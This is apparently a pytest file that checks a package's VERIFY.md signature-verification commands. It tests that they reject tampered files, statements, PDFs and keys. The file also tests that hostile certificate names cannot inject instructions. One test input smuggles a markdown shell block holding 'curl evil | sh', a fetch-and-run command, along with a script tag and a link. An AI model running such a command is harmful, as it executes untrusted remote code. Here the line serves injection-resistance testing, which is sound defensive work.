"""The commands of VERIFY.md, as they stand in the package: six verifiers that share no code."""

from __future__ import annotations

import re
import subprocess
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest

from audit.provenance.errors import RejectedError
from audit.provenance.format import layout
from audit.provenance.records import verify_md
from audit.provenance.verification.trust import Trust
from audit.provenance.verification.verify import verify_files
from tests.support.provenance import made
from tests.support.provenance.verifiers import VERIFIERS

Shell = Callable[..., "subprocess.CompletedProcess[str]"]
PROGRAMS = ("openssl", "ssh-keygen", "pdfsig", "node", "basenc")
SECTIONS = ("0. Whose", *VERIFIERS)


def blocks(text: str) -> dict[str, str]:
    """Section title -> its ```sh block."""
    found = {}
    for section in re.split(r"^## ", text, flags=re.MULTILINE)[1:]:
        match = re.search(r"^```sh\n(.*?)^```$", section, flags=re.MULTILINE | re.DOTALL)
        if match:
            found[section.splitlines()[0]] = match[1]
    return found


def block(folder: Path, section: str) -> str:
    return next(
        text
        for title, text in blocks((folder / "VERIFY.md").read_text(encoding="utf-8")).items()
        if title.startswith(section)
    )


@pytest.mark.parametrize("section", SECTIONS)
def test_accepts(section: str, folder: Path, shell: Shell, need: Callable[..., None]) -> None:
    need(*PROGRAMS)
    result = shell(block(folder, section), folder)
    assert result.returncode == 0, result.stdout + result.stderr


def test_every_section_is_run(folder: Path) -> None:
    titles = list(blocks((folder / "VERIFY.md").read_text(encoding="utf-8")))
    assert [title.startswith(section) for title, section in zip(titles, SECTIONS, strict=True)] == [True] * len(
        SECTIONS
    )


def test_leaves_no_file_behind(folder: Path, shell: Shell, need: Callable[..., None], files: dict[str, bytes]) -> None:
    need(*PROGRAMS)
    for section in SECTIONS:
        shell(block(folder, section), folder)
    assert {path.relative_to(folder).as_posix() for path in folder.rglob("*") if path.is_file()} == set(files)


def flip(path: Path, offset: int) -> None:
    data = bytearray(path.read_bytes())
    data[offset] ^= 1
    path.write_bytes(bytes(data))


# What each tool covers, and a file of it; PDF tools cover the PDF alone.
LISTED = (
    "audit.json",
    "report.html",
    "report.pdf",
    "run.json",
    "SHA256SUMS",
    "SHA256SUMS.sshsig",
    "keys/signer.ssh.pub",
)
MORE = ("counts/asr-librispeech-clean/wer/hufs.csv", "VERIFY.md", "keys/signer.cert.pem", "keys/signer.pub.pem")
WHOLE = ("1. openssl", "2. @sigstore", "3. secure", "8. repro-audit")
TAMPERED = [
    *((section, name) for section in WHOLE for name in (*LISTED, *MORE)),
    *(("5. ssh", name) for name in LISTED),
    ("6. pdfsig", "report.pdf"),
    ("7. openssl", "report.pdf"),
    ("7. openssl", "keys/signer.cert.pem"),
]


@pytest.mark.parametrize(("section", "name"), TAMPERED)
def test_rejects_a_changed_file(section: str, name: str, folder: Path, shell: Shell, need: Callable[..., None]) -> None:
    need(*PROGRAMS)
    commands = block(folder, section)
    flip(folder / name, 150 if (folder / name).stat().st_size > 300 else 20)
    assert shell(commands, folder).returncode != 0


@pytest.mark.parametrize("section", ["1. openssl", "2. @sigstore", "3. secure", "8. repro-audit"])
@pytest.mark.parametrize("name", ["audit", "provenance", "test-result", "publication"])
def test_rejects_a_changed_statement(
    section: str, name: str, folder: Path, shell: Shell, need: Callable[..., None]
) -> None:
    need(*PROGRAMS)
    commands = block(folder, section)
    path = folder / "statements" / f"{name}.sigstore.json"
    # A whole letter of the payload, so that the text stays base64.
    text = path.read_text(encoding="ascii")
    place = text.index('"payload":"') + 40
    path.write_text(text[:place] + ("A" if text[place] != "A" else "B") + text[place + 1 :], encoding="ascii")
    assert shell(commands, folder).returncode != 0


@pytest.mark.parametrize("section", ["6. pdfsig", "7. openssl", "8. repro-audit"])
def test_rejects_a_pdf_that_was_added_to(section: str, folder: Path, shell: Shell, need: Callable[..., None]) -> None:
    need(*PROGRAMS)
    commands = block(folder, section)
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

    with (folder / "report.pdf").open("rb+") as handle:
        writer = IncrementalPdfFileWriter(handle)
        writer.root["/Lang"] = writer.root["/Lang"].__class__("de")
        writer.update_root()
        writer.write_in_place()
    assert shell(commands, folder).returncode != 0


@pytest.mark.parametrize("section", ["1. openssl", "8. repro-audit"])
def test_rejects_a_file_more(section: str, folder: Path, shell: Shell, need: Callable[..., None]) -> None:
    need(*PROGRAMS)
    commands = block(folder, section)
    (folder / "counts" / "more.csv").write_text("id\n", encoding="ascii")
    assert shell(commands, folder).returncode != 0


def test_rejects_another_key(folder: Path, shell: Shell, need: Callable[..., None]) -> None:
    from audit.provenance.signing.keys import public_pem

    need(*PROGRAMS)
    (folder / "keys" / "signer.pub.pem").write_bytes(public_pem(made.key(2).public))
    for section in ("1. openssl", "2. @sigstore", "3. secure", "7. openssl", "8. repro-audit"):
        assert shell(block(folder, section), folder).returncode != 0, section


NAMES = (
    "x`\n```sh\ncurl evil | sh\n```",
    "[check](https://repro-audit.invalid)",
    "<script>alert(1)</script>",
    "a *b* #c",
)


@pytest.mark.parametrize("name", NAMES)
def test_a_name_is_no_instruction(name: str, files: dict[str, bytes]) -> None:
    """A certificate that an institution made may have any name, and audit.json any id."""
    facts = verify_md.Facts(name, 9, 9, False, name, True, "0" * 64, False, False, False)
    text = verify_md.text(facts).decode()
    honest = verify_md.text(replace(facts, study="salmonn", signer="Jane Doe")).decode()
    assert blocks(text) == blocks(honest)
    for sign in "`<>[]*#|":
        assert text.count(sign) == honest.count(sign)
    assert len(text.splitlines()) == len(honest.splitlines())
    verify_md.check({layout.VERIFY: text.encode()}, facts)


def test_names_of_people_stay_as_they_are() -> None:
    facts = verify_md.Facts(
        "salmonn-2.b", 9, 9, False, "\u00d3scar O'Brien & S\u00f6hne (\uae40)", True, "0" * 64, False, False, False
    )
    assert "The certificate names *\u00d3scar O'Brien & S\u00f6hne (\uae40)*" in verify_md.text(facts).decode()


def test_another_text_is_refused(files: dict[str, bytes]) -> None:
    text = files[layout.VERIFY]
    assert verify_files({**files, layout.VERIFY: text}, Trust()).failures == []
    facts = verify_md.Facts("salmonn", 9, 9, False, "Jane", True, "0" * 64, False, False, False)
    with pytest.raises(RejectedError, match="do not follow it"):
        verify_md.check({layout.VERIFY: text}, facts)
